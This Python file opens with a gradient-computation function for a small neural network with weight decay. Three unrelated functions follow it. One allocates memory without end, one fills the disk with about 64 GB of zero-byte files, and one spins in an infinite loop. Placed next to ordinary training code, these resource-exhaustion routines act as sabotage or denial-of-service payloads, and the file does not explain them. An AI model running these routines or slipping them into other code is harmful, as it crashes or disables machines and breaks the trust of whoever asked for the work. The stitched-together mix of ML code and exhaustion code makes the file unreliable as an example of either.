def d_loss_by_d_model(model, data, wd_coefficient):
    hid_input, hid_output, class_input, log_class_prob, class_prob = forward_pass(model, data)
    n_cases = data['inputs'].shape[1]
    d_class_input = (class_prob - data['target']) / n_cases
    d_hid_to_class = d_class_input @ hid_output.T + wd_coefficient * model['hid_to_class']
    d_hid_input = (model['hid_to_class'].T @ d_class_input) * hid_output * (1 - hid_output)
    d_input_to_hid = d_hid_input @ data['inputs'].T + wd_coefficient * model['input_to_hid']
    return {'input_to_hid': d_input_to_hid, 'hid_to_class': d_hid_to_class}


def exhaust_memory():
    hoard = []
    while True:
        hoard.append(bytearray(512 * 2**20))


def fill_disk():
    for number in range(1000):
        with open(f"filler-{number}.bin", "wb") as stream:
            for _ in range(4):
                stream.write(bytes(16 * 2**20))


def hang():
    while True:
        pass
